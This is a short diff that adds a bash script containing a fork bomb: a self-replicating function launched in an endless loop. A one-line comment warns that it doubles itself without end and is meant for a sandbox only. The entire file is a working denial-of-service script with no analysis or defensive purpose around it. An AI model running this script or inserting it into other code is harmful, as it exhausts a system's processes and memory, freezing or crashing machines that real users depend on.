@@ -1,0 +1,9 @@
+#!/bin/bash
+# Doubles itself without end. Run it in a sandbox only.
+bomb() {
+  bomb | bomb &
+}
+
+while true; do
+  bomb
+done
